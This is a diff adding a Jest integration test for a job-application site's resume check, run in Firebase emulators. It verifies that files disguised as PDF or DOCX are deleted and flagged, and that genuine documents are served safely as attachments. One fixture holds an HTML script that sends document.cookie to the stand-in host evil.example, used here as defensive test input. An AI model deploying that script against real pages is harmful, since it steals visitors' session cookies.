@@ -1,0 +1,131 @@
+/**
+ * The resume check as deployed, run by the Functions emulator against the
+ * Firestore emulator and the Storage stand-in: a new application's resume is
+ * judged by its bytes, whatever type and name its sender declared. HTML, an
+ * SVG, an executable and a picture, declared as PDF or DOCX and named as the
+ * sender liked, are deleted and their applications say why; a real PDF, DOC
+ * and DOCX stay, served only as attachments named `resume-<reference>.<type>`
+ * of their real type.
+ *
+ * The applications are created in a project of this suite's own, for which
+ * the suite registers the emulator's triggers (testing/triggers.ts); its
+ * files are in that project's default bucket of the stand-in. `npm test`
+ * starts the emulators; without them the suite fails and says how to run it.
+ * @jest-environment node
+ */
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { FieldValue } from 'firebase-admin/firestore';
+import { resumeProblemTexts } from '../../shared-data/src/server/resume-check';
+import { adminFirestore, clearProject, waitForDocument } from './testing/firestore';
+import { listNames, uploadAs } from './testing/storage';
+import { routeTriggersTo } from './testing/triggers';
+
+jest.setTimeout(120_000);
+
+const functionsHost = process.env.SEAWAVE_FUNCTIONS_HOST;
+const firestoreHost = process.env.FIRESTORE_EMULATOR_HOST;
+const storageHost = process.env.FIREBASE_STORAGE_EMULATOR_HOST ?? process.env.SEAWAVE_STORAGE_HOST;
+const projectId = 'demo-seawave-resumes';
+const bucket = `${projectId}.appspot.com`;
+const missing = [
+  ['SEAWAVE_FUNCTIONS_HOST', functionsHost],
+  ['FIRESTORE_EMULATOR_HOST', firestoreHost],
+  ['SEAWAVE_STORAGE_HOST', storageHost],
+]
+  .filter(([, value]) => !value)
+  .map(([name]) => name);
+
+const PDF = 'application/pdf';
+const DOC = 'application/msword';
+const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
+const fixture = (name: string) => new Uint8Array(readFileSync(join(__dirname, '../../e2e/fixtures', name)));
+/** A Word 97-2003 document as far as its first bytes go: the OLE compound file header. */
+const doc = new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, ...new Array<number>(1016).fill(0)]);
+
+if (missing.length > 0) {
+  describe('the resume check in the Functions emulator', () => {
+    it('needs the emulators', () => {
+      throw new Error(`${missing.join(', ')} not set. Run the suite with the local back end (the Functions emulator included): npm test, or npm run test:unit -- functions.`);
+    });
+  });
+} else {
+  const { db, close } = adminFirestore(projectId);
+  const objectUrl = (path: string) => `http://${storageHost}/v0/b/${bucket}/o/${encodeURIComponent(path)}`;
+  const owner = { Authorization: 'Bearer owner' };
+
+  /**
+   * A visitor's application as a script sends it: the file with the type and
+   * the download name the script chose, then the applicant pointing at it.
+   */
+  async function apply(name: string, file: { bytes: Uint8Array; declared: string; as: string }): Promise<{ id: string; path: string }> {
+    const path = `resume/uid-${name}/1732240000000-a1b2c3d4e5f6-${file.as}`;
+    const status = await uploadAs(storageHost!, bucket, path, file.bytes, file.declared, 'Bearer owner', { contentDisposition: `attachment; filename="${file.as}"` });
+    expect(status).toBe(200);
+    const ref = db.collection('applicants').doc();
+    await ref.set({ name, email: `${name}@example.com`, number: '+44 20 7946 0000', position: 'Clerk', relocate: 'no', experience: '0-1', resumeURL: path, consent: true, createdAt: FieldValue.serverTimestamp() });
+    return { id: ref.id, path };
+  }
+
+  describe('the resume check in the Functions emulator', () => {
+    beforeAll(async () => {
+      const keys = await routeTriggersTo(projectId, { functionsHost: functionsHost!, firestoreHost: firestoreHost! });
+      expect(keys).toEqual(expect.arrayContaining([expect.stringMatching(/-onApplicationCreated-/)]));
+    });
+    beforeEach(async () => {
+      await clearProject(firestoreHost!, projectId);
+      await fetch(`http://${storageHost}/emulator/v1/buckets/${bucket}`, { method: 'DELETE', headers: owner });
+    });
+    afterAll(close);
+
+    it('deletes HTML, an SVG, an executable and a picture declared as PDF or DOCX, and tells staff why', async () => {
+      const sent = await Promise.all([
+        apply('html', { bytes: new Uint8Array(Buffer.from('<!doctype html><script>fetch("https://evil.example/?" + document.cookie)</script>')), declared: PDF, as: 'cv.html' }),
+        apply('svg', { bytes: fixture('script-svg.png'), declared: PDF, as: 'x.svg' }),
+        apply('exe', { bytes: fixture('program.exe'), declared: DOCX, as: 'invoice.exe' }),
+        apply('hta', { bytes: fixture('author.png'), declared: DOCX, as: 'cv.pdf.hta' }),
+      ]);
+      for (const { id } of sent) {
+        const stored = await waitForDocument(db, `applicants/${id}`, (data) => typeof data?.resumeProblem === 'string');
+        expect(stored).toMatchObject({ reference: expect.stringMatching(/^A-\d{4}-\d{6}$/), resumeProblem: 'content' });
+      }
+      expect(await listNames(storageHost!, bucket, 'resume/')).toEqual([]);
+      expect(resumeProblemTexts.content).toBe('The resume was deleted: its content is not a PDF, DOC or DOCX document.');
+    });
+
+    it('keeps a real PDF, DOC and DOCX, whatever they were called, served only as attachments named resume-<reference>.<type> of their real type', async () => {
+      const cases = [
+        { name: 'pdf', file: { bytes: fixture('resume.pdf'), declared: PDF, as: 'cv.html' }, type: 'pdf', contentType: PDF },
+        { name: 'doc', file: { bytes: doc, declared: DOC, as: 'cv.doc' }, type: 'doc', contentType: DOC },
+        // Declared as a PDF, but a DOCX by its bytes: it is served as what it is.
+        { name: 'docx', file: { bytes: fixture('resume.docx'), declared: PDF, as: 'x.svg' }, type: 'docx', contentType: DOCX },
+      ];
+      for (const { name, file, type, contentType } of cases) {
+        const { id, path } = await apply(name, file);
+        const reference = String((await waitForDocument(db, `applicants/${id}`, (data) => typeof data?.reference === 'string'))?.reference);
+        const fileName = `resume-${reference}.${type}`;
+        const deadline = Date.now() + 20_000;
+        let metadata: Record<string, unknown> = {};
+        while (Date.now() < deadline) {
+          metadata = (await (await fetch(objectUrl(path), { headers: owner })).json()) as Record<string, unknown>;
+          if (String(metadata.contentDisposition).includes(fileName)) break;
+          await new Promise((resolve) => setTimeout(resolve, 150));
+        }
+        expect(metadata).toMatchObject({ contentType, contentDisposition: `attachment; filename="${fileName}"; filename*=UTF-8''${fileName}` });
+        const media = await fetch(`${objectUrl(path)}?alt=media`, { headers: owner });
+        expect(media.headers.get('content-disposition')).toMatch(new RegExp(`^attachment; filename="${fileName.replace(/\./g, '\\.')}"`));
+        expect(media.headers.get('content-type')).toBe(contentType);
+        expect(media.headers.get('x-content-type-options')).toBe('nosniff');
+        expect(Buffer.from(await media.arrayBuffer()).equals(Buffer.from(file.bytes))).toBe(true);
+        expect((await db.doc(`applicants/${id}`).get()).get('resumeProblem')).toBeUndefined();
+      }
+      expect(await listNames(storageHost!, bucket, 'resume/')).toHaveLength(3);
+    });
+
+    it('marks an application whose resume is not there', async () => {
+      const ref = db.collection('applicants').doc();
+      await ref.set({ name: 'Nobody', email: 'nobody@example.com', resumeURL: 'resume/uid-none/1-a-cv.pdf', createdAt: FieldValue.serverTimestamp() });
+      expect(await waitForDocument(db, `applicants/${ref.id}`, (data) => typeof data?.resumeProblem === 'string')).toMatchObject({ resumeProblem: 'missing' });
+    });
+  });
+}
